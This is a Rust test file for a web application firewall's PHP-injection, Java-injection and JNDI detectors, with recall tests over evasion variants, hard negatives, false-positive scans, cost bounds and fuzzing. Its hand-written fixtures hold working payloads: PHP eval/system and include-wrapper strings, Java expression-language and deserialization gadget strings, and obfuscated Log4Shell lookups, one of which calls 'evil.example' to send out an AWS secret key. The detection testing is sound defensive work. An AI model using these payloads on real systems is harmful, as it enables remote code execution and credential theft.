//! Recall of the php-injection, java-injection and JNDI checks on the evasion suite's variants,
//! hand-written hard negatives, and (ignored) an FP scan over the real benign files in
//! `RAMPART_DATA`: `cargo test -p rampart-syntax --test php_java -- --ignored --nocapture`.

use std::collections::BTreeMap;

use syntax::{checks, Finding, Input, Place};

/// Roughly the engine's decoded view: percent layers, `\uXXXX`, `/* */` comments removed and
/// whitespace collapsed (the engine does more; this is what the families need).
fn decoded(text: &str) -> String {
    let mut cur = text.to_string();
    for _ in 0..4 {
        let next = percent(&cur);
        if next == cur {
            break;
        }
        cur = next;
    }
    let cur = unicode_escapes(&cur);
    let mut out = String::new();
    let mut rest = cur.as_str();
    while let Some(at) = rest.find("/*") {
        out.push_str(&rest[..at]);
        match rest[at + 2..].find("*/") {
            Some(end) => rest = &rest[at + 2 + end + 2..],
            None => {
                rest = "";
            }
        }
    }
    out.push_str(rest);
    out.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn percent(text: &str) -> String {
    let b = text.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' && i + 2 < b.len() {
            let hex = std::str::from_utf8(&b[i + 1..i + 3]).ok().and_then(|h| u8::from_str_radix(h, 16).ok());
            if let Some(v) = hex {
                out.push(v);
                i += 3;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn unicode_escapes(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find("\\u") {
        out.push_str(&rest[..at]);
        let hex = rest.get(at + 2..at + 6).and_then(|h| u32::from_str_radix(h, 16).ok()).and_then(char::from_u32);
        match hex {
            Some(c) => {
                out.push(c);
                rest = &rest[at + 6..];
            }
            None => {
                out.push_str("\\u");
                rest = &rest[at + 2..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// The best finding of `detector` on the text and its decoded view, as the engine runs checks.
fn detect(text: &str, place: Place, name: &str, detector: &str, level: u8) -> Option<Finding> {
    let plain = text.to_string();
    let dec = decoded(text);
    for (view, is_decoded) in [(&plain, false), (&dec, true)] {
        let mut input = Input::new(view);
        input.place = place;
        input.name = name;
        input.decoded = is_decoded;
        input.sensitivity = level;
        if let Some(f) = checks().iter().filter(|c| c.detector() == detector).find_map(|c| c.inspect(&input)) {
            return Some(f);
        }
    }
    None
}

fn recall(family: &str, detector: &str, n: usize) -> f64 {
    let fam = evasion::family(family).expect("family registered");
    // RAMPART_EVASION_N raises the sample for a full run (the default keeps `make test` quick).
    let n = std::env::var("RAMPART_EVASION_N").ok().and_then(|v| v.parse().ok()).unwrap_or(n);
    let variants = evasion::sample(fam, 12, n);
    let mut per: BTreeMap<String, (usize, usize)> = BTreeMap::new();
    let mut caught = 0;
    let mut caught_l2 = 0;
    let mut missed = Vec::new();
    for v in &variants {
        let (place, name) = match &v.carrier {
            evasion::Carrier::Header(h) => (Place::Header, *h),
            _ => (Place::QueryValue, "q"),
        };
        let hit = detect(&v.payload, place, name, detector, 1).is_some();
        if hit || detect(&v.payload, place, name, detector, 2).is_some() {
            caught_l2 += 1;
        }
        for m in v.mutation.split('+') {
            let e = per.entry(m.to_string()).or_default();
            e.1 += 1;
            if hit {
                e.0 += 1;
            }
        }
        if hit {
            caught += 1;
        } else if missed.len() < 15
            || (std::env::var("RAMPART_EVASION_MISS").is_ok_and(|m| v.mutation.contains(m.as_str())) && missed.len() < 60)
        {
            missed.push(format!("[{}] {}", v.mutation, v.payload));
        }
    }
    let rate = caught as f64 / variants.len() as f64;
    println!("{family}: {caught}/{} = {:.1}% at level 1, {caught_l2} at level 2", variants.len(), rate * 100.0);
    for (m, (c, t)) in &per {
        println!("  {m:<28} {c:>5}/{t:<5} {:.1}%", *c as f64 * 100.0 / *t as f64);
    }
    for m in &missed {
        println!("  MISS {m}");
    }
    rate
}

#[test]
fn php_recall() {
    assert!(recall("php-injection", "php-injection", 2000) >= 0.95);
}

#[test]
fn java_recall() {
    assert!(recall("java-injection", "java-injection", 2000) >= 0.95);
}

#[test]
fn jndi_recall() {
    assert!(recall("jndi", "deserialization", 2000) >= 0.95);
}

/// Realistic text that names the same functions, classes and `${...}` syntax without being an
/// attack: none may fire at level 1.
const HARD_NEGATIVES: &[&str] = &[
    "Exception in thread \"main\" java.lang.NullPointerException\n\tat com.example.App.main(App.java:14)",
    "\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)",
    "at java.lang.Thread.run(Thread.java:748)",
    "Caused by: java.io.FileNotFoundException: /tmp/x (No such file or directory)",
    "at sun.reflect.NativeMethodAccessorImpl.invoke0(Native Method)",
    "at org.springframework.beans.factory.support.AbstractBeanFactory.getBean(AbstractBeanFactory.java:202)",
    "java.lang.ClassNotFoundException: com.mysql.jdbc.Driver",
    "Why does my Spring Boot app log org.springframework.context.support.AbstractApplicationContext refresh warnings on startup?",
    "How do I call Runtime.getRuntime().availableProcessors() from Kotlin and why does it return 1 in Docker?",
    "system requirements: 8 GB RAM, 64-bit OS",
    "system (noun): a set of connected things or parts forming a complex whole",
    "Executive summary: the exec(s) approved the budget",
    "Please include https://docs.example.com/guide in the release notes",
    "How do I use file_exists in PHP to check a directory? The docs say it returns bool.",
    "What is the difference between include and require in PHP?",
    "PHP's system function runs a command; is passthru safer?",
    "export PATH=${HOME}/bin:${PATH}",
    "echo \"Hello ${name:-world}\"",
    "Dear ${firstName}, your order ${orderId} has shipped",
    "${user.name} logged in from ${remote.addr}",
    "Hello %{name}, you have %{count} new messages",
    "#{user.firstName} #{user.lastName}",
    "see #request-handling and #context in the README",
    "[Installation](#installation) [Usage](#usage)",
    "john.doe@example.com",
    "support@java.example.org",
    "com.example.android.MainActivity",
    "org.apache.http.impl.client.CloseableHttpClient",
    "java.util.concurrent.TimeoutException: deadline exceeded",
    "jndi: Java Naming and Directory Interface overview",
    "The ldap:// URL in the config points to our directory server",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230805.001)",
    "Apache-HttpClient/4.5.13 (Java/17.0.2)",
    "$(document).ready(function () { init(); })",
    "$t('checkout.title')",
    "this.$emit('close')",
    "regex.exec(input)",
    "db.users.find().exec(cb)",
    "$stmt->execute(); $pdo->exec('SET NAMES utf8')",
    "O'Reilly's \"Learning PHP\" (5th ed.)",
    "price: $5 (USD) or $6 (CAD)",
    "shell.example.com/cmd/status",
    "/docs/php/manual.php?page=system",
    "/index.php?option=com_content&view=article&id=12",
    "c99 is a C standard; r57 is a road",
    "The Process Builder in Salesforce automates records",
    "T(x) = 2x + 1",
    "#{count} items in cart",
    "eval is evil, said Crockford",
    "Use Class.forName only for legacy JDBC drivers, see the FAQ section about it for details",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><note>hi</note>",
    "${match.exec(line)[1]}",
    "(see figure 2)(b) for the system layout",
    "<dependency><groupId>org.apache.commons</groupId><artifactId>commons-lang3</artifactId></dependency>",
    "print(len(items))",
    "Please print (md5 of the file) and send it",
    "{\"module\":\"java.lang.reflect.Method\",\"function\":\"invoke\",\"in_app\":false}",
];

#[test]
fn hard_negatives_pass_at_level_1() {
    let mut fired = Vec::new();
    for text in HARD_NEGATIVES {
        for detector in ["php-injection", "java-injection", "deserialization"] {
            if let Some(f) = detect(text, Place::QueryValue, "q", detector, 1) {
                fired.push(format!("{} <- {text}", f.reason));
            }
        }
    }
    assert!(fired.is_empty(), "{fired:#?}");
}

/// Hand-written forms outside the grammars' templates (written from the languages' syntax): each
/// must be caught at level 1 by its detector.
const HAND_WRITTEN: &[(&str, &str)] = &[
    ("php-injection", "{${system(id)}}"),
    ("php-injection", "die(system('id'))"),
    ("php-injection", "system(chr(105).chr(100))"),
    ("php-injection", "ob_start('system'); echo 'id';"),
    ("php-injection", "include($_GET['page'])"),
    ("php-injection", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+"),
    ("php-injection", "zip://uploads/avatar.jpg#shell.php"),
    ("php-injection", "\"+system('id')+\""),
    ("php-injection", "<?PHP\n@eval($_POST['x']);"),
    ("php-injection", "(sy.(st).em)(whoami)"),
    ("php-injection", "\\system('id');"),
    ("php-injection", "print(md5(31337))"),
    ("php-injection", "-d allow_url_include=1 -d auto_prepend_file=php://input"),
    ("php-injection", "system//x\n('id')"),
    ("java-injection", "''.class.forName('java.lang.Runtime')"),
    ("java-injection", "#set($x=$e.getClass().forName('java.lang.Runtime'))"),
    ("java-injection", "<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/>"),
    ("java-injection", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("java-injection", "class.module.classLoader.resources.context.parent.pipeline.first.pattern"),
    ("java-injection", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("java-injection", "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x"),
    ("java-injection", "{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\",\"dataSourceName\":\"ldap://x/a\"}"),
    ("java-injection", "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"),
    ("java-injection", "[\"org.apache.xbean.propertyeditor.JndiConverter\", {\"asText\":\"ldap://x/a\"}]"),
    ("java-injection", "redirect:${#a=new java.lang.ProcessBuilder('id').start()}"),
    ("deserialization", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}"),
    ("deserialization", "${${lower:J:-x}ndi:rmi://x.example/a}"),
    ("deserialization", "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://x/a}"),
    ("deserialization", "${jndi:ldap://127.0.0.1#evil.example:1389/${env:AWS_SECRET_ACCESS_KEY}}"),
];

#[test]
fn hand_written_forms_are_caught() {
    let missed: Vec<_> = HAND_WRITTEN.iter().filter(|(d, text)| detect(text, Place::QueryValue, "q", d, 1).is_none()).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

/// Every JSON string literal in a line, escapes undone (keys included: they never fire).
fn json_strings(line: &str) -> Vec<String> {
    let b = line.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'"' {
            i += 1;
            continue;
        }
        let mut s = String::new();
        i += 1;
        let mut start = i;
        while i < b.len() && b[i] != b'"' {
            if b[i] == b'\\' && i + 1 < b.len() {
                s.push_str(&line[start..i]);
                let c = b[i + 1];
                i += 2;
                match c {
                    b'n' => s.push('\n'),
                    b't' => s.push('\t'),
                    b'r' => s.push('\r'),
                    b'u' if i + 4 <= b.len() => {
                        if let Some(ch) = line.get(i..i + 4).and_then(|h| u32::from_str_radix(h, 16).ok()).and_then(char::from_u32) {
                            s.push(ch);
                        }
                        i += 4;
                    }
                    other => s.push(other as char),
                }
                start = i;
            } else {
                i += 1;
            }
        }
        s.push_str(&line[start.min(b.len())..i.min(b.len())]);
        out.push(s);
        i += 1;
    }
    out
}

#[test]
#[ignore]
fn fp_scan_real_benign() {
    let dir = std::env::var("RAMPART_DATA").unwrap_or_else(|_| "/work/shared/datasets".into());
    let files = [
        "sharegpt_user_messages.jsonl",
        "har_fixture_parts.jsonl",
        "requests/har_fixture_requests.jsonl",
        "requests/node_soap_requests.jsonl",
        "digitalocean_api_examples.jsonl",
        "uap_core_user_agents.jsonl",
        "csic2010_lines.jsonl",
        "fwaf_goodqueries_subset.jsonl",
        "otlp_json_examples.jsonl",
        "graphql_spec_examples.jsonl",
        "benign_prompts_alpaca_eval.jsonl",
        "benign_prompts_self_instruct.jsonl",
        "benign_prompts_awesome_chatgpt_prompts.jsonl",
        "benign_prompts_gsm8k.jsonl",
        "httpparams.jsonl",
    ];
    for level in [1u8, 2] {
        println!("== level {level}");
        for file in files {
            let Ok(text) = std::fs::read_to_string(format!("{dir}/{file}")) else { continue };
            let mut rows = 0;
            let mut hits: BTreeMap<&str, usize> = BTreeMap::new();
            let mut examples = Vec::new();
            for line in text.lines() {
                if line.contains("\"label\"") && !line.contains("\"benign\"") {
                    continue;
                }
                rows += 1;
                let mut fields = Vec::new();
                for s in json_strings(line) {
                    // URLs and query strings are split into values as the engine parses them;
                    // prose and code are scored whole, as the engine does.
                    let url_like = !s.contains(char::is_whitespace) && (s.contains('&') || s.contains('?'));
                    if url_like {
                        for part in s.split(['&', '?', ';']) {
                            let value = part.split_once('=').map_or(part, |(_, v)| v);
                            fields.push(percent(&value.replace('+', " ")));
                        }
                    }
                    fields.push(s);
                }
                let mut row_reasons = Vec::new();
                for f in &fields {
                    for detector in ["php-injection", "java-injection", "deserialization"] {
                        if let Some(found) = detect(f, Place::QueryValue, "q", detector, level) {
                            if !row_reasons.contains(&found.reason) {
                                row_reasons.push(found.reason);
                                if examples.len() < 12 {
                                    examples.push(format!(
                                        "{} | {}",
                                        found.reason,
                                        f.chars().take(160).collect::<String>().replace('\n', "\\n")
                                    ));
                                }
                            }
                        }
                    }
                }
                for r in row_reasons {
                    *hits.entry(r).or_default() += 1;
                }
            }
            println!("{file}: {rows} rows, hits {hits:?}");
            for e in &examples {
                println!("    {e}");
            }
        }
    }
}

/// The labelled pool's attack rows (read only to measure, never to write rules from): JNDI
/// recall on the Log4Shell bypass list, and how many other attack rows each reason catches.
#[test]
#[ignore]
fn pool_attack_rows() {
    let dir = std::env::var("RAMPART_DATA").unwrap_or_else(|_| "/work/shared/datasets".into());
    for file in
        ["log4j_jndi_bypass_words", "payloadsallthethings", "payloadbox", "fuzzdb", "awesome_waf_bypasses", "websec_ext_cmdi", "httpparams"]
    {
        let Ok(text) = std::fs::read_to_string(format!("{dir}/{file}.jsonl")) else { continue };
        let mut rows = 0;
        let mut hits: BTreeMap<(String, &str), usize> = BTreeMap::new();
        let mut jndi_rows = 0;
        let mut jndi_missed = Vec::new();
        for line in text.lines() {
            if line.contains("\"label\": \"benign\"") {
                continue;
            }
            let strings = json_strings(line);
            let Some(payload) = strings.iter().position(|s| s == "text").and_then(|i| strings.get(i + 1)) else { continue };
            let label = strings.iter().position(|s| s == "label").and_then(|i| strings.get(i + 1)).cloned().unwrap_or_default();
            rows += 1;
            let is_jndi = payload.to_ascii_lowercase().contains("jndi") || file == "log4j_jndi_bypass_words";
            let mut jndi_hit = false;
            for detector in ["php-injection", "java-injection", "deserialization"] {
                if let Some(f) = detect(payload, Place::QueryValue, "q", detector, 1) {
                    *hits.entry((label.clone(), f.reason)).or_default() += 1;
                    jndi_hit |= f.reason == "deserialization:jndi-lookup";
                }
            }
            if is_jndi {
                jndi_rows += 1;
                if !jndi_hit {
                    jndi_missed.push(payload.chars().take(120).collect::<String>());
                }
            }
        }
        println!("{file}: {rows} attack rows; jndi rows caught {}/{jndi_rows}; hits {hits:?}", jndi_rows - jndi_missed.len());
        for m in jndi_missed.iter().take(10) {
            println!("    jndi MISS {m}");
        }
    }
}

/// Linear time on adversarial shapes and a few microseconds on a benign 1 KB JSON body.
#[test]
fn cost_is_linear_and_small() {
    let shapes = [
        "${",
        "${a:-",
        "'",
        "\"sys\".",
        "(",
        "$a[",
        "system(",
        "<?",
        "@java.lang.X",
        "(#a",
        "#{",
        "java.lang.Runtime.",
        "/*",
        "#",
        "${lower:",
        "}",
    ];
    // One pass over a 50 KB input must cost about as much as twenty passes over 2.5 KB (a
    // quadratic check would cost twenty times more; the bound is ten). Both sides do the same amount of linear
    // work, so a debug build or a busy machine slows both alike.
    let time = |text: &str, passes: usize| {
        (0..3)
            .map(|_| {
                let started = std::time::Instant::now();
                for _ in 0..passes {
                    for check in checks() {
                        let mut input = Input::new(text);
                        input.sensitivity = 4;
                        std::hint::black_box(check.inspect(&input));
                    }
                }
                started.elapsed().as_secs_f64()
            })
            .fold(f64::MAX, f64::min)
    };
    for shape in shapes {
        let small = shape.repeat(2_500 / shape.len());
        let large = shape.repeat(50_000 / shape.len());
        let (a, b) = (time(&small, 20).max(1e-5), time(&large, 1));
        assert!(b / a < 10.0, "{shape}: {a:.4}s for 20 x 2.5 KB, {b:.4}s for 50 KB");
    }
    let body = r#"{"user":{"id":42,"name":"Alex Doe","email":"alex@example.com","bio":"Loves hiking, photography and open source. Based in Lisbon.","tags":["rust","waf","security"],"prefs":{"theme":"dark","lang":"en-US","tz":"Europe/Lisbon"}},"cart":[{"sku":"A-100","qty":2,"price":19.99},{"sku":"B-220","qty":1,"price":5.5}],"note":"Please leave the parcel at the door (ring twice). Thanks!","ts":"2024-05-01T10:00:00Z","ua":"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36","ref":"https://www.example.com/products/hiking?utm_source=news&utm_medium=email"}"#;
    let input = Input::new(body);
    let started = std::time::Instant::now();
    let rounds = 20_000;
    for _ in 0..rounds {
        for check in checks() {
            std::hint::black_box(check.inspect(&input));
        }
    }
    println!("benign {} B body, all three checks: {:?} per body", body.len(), started.elapsed() / rounds);
    let started = std::time::Instant::now();
    for _ in 0..rounds {
        std::hint::black_box(syntax::ByteSet::of(std::hint::black_box(body)));
    }
    println!("  baseline ByteSet::of: {:?}", started.elapsed() / rounds);
    for check in checks() {
        let started = std::time::Instant::now();
        for _ in 0..rounds {
            std::hint::black_box(check.inspect(&input));
        }
        println!("  {}: {:?}", check.detector(), started.elapsed() / rounds);
    }
    // As the engine calls them: once per field (the JSON string leaves), byte sets precomputed.
    let leaves: Vec<String> = json_strings(body);
    let inputs: Vec<Input> = leaves.iter().map(|l| Input::new(l)).collect();
    let started = std::time::Instant::now();
    for _ in 0..rounds {
        for input in &inputs {
            for check in checks() {
                std::hint::black_box(check.inspect(input));
            }
        }
    }
    println!("  per field ({} leaves), all three checks: {:?} per body", inputs.len(), started.elapsed() / rounds);
    for check in checks() {
        let started = std::time::Instant::now();
        for _ in 0..rounds {
            for input in &inputs {
                std::hint::black_box(check.inspect(input));
            }
        }
        println!("    {} per field: {:?} per body", check.detector(), started.elapsed() / rounds);
    }
}

/// Random text over the checks' trigger bytes and multi-byte characters never panics (every
/// slice is on bytes; strings are only built from whole ASCII or lossy conversions).
#[test]
fn random_text_never_panics() {
    let alphabet: Vec<char> = "${}:-()'\"`.;#@<?=/*\\[]%$ _aAjJnNdDiIlLpPsSyYtTeEmMrR0159\n\té€ı🙂".chars().collect();
    let mut rng = evasion::Rng::new(99);
    for _ in 0..20_000 {
        let len = rng.below(120);
        let text: String = (0..len).map(|_| alphabet[rng.below(alphabet.len())]).collect();
        for level in [1, 4] {
            let mut input = Input::new(&text);
            input.sensitivity = level;
            for check in checks() {
                let _ = check.inspect(&input);
            }
        }
    }
}

/// The placement-invariance suite's nested-lookup payload (services/tests/invariance), in the
/// encodings this harness can undo and cut at `/` as a path segment is: caught everywhere.
#[test]
fn invariance_suite_jndi_payload() {
    let payload = "${${lower:j}ndi:${lower:l}dap://evil.example/a}";
    let percent_all = |t: &str| t.bytes().map(|b| format!("%{b:02X}")).collect::<String>();
    let json_u = |t: &str| t.chars().map(|c| format!("\\u{:04x}", c as u32)).collect::<String>();
    let mut forms = vec![payload.to_string(), percent_all(payload), percent_all(&percent_all(payload)), json_u(payload)];
    forms.extend(payload.split('/').filter(|s| s.contains("${")).map(str::to_string));
    for (place, name) in [(Place::Header, "user-agent"), (Place::Cookie, "session"), (Place::Path, ""), (Place::BodyKey, "k")] {
        for form in &forms {
            assert!(detect(form, place, name, "deserialization", 1).is_some(), "{form} in {place:?}");
        }
    }
}
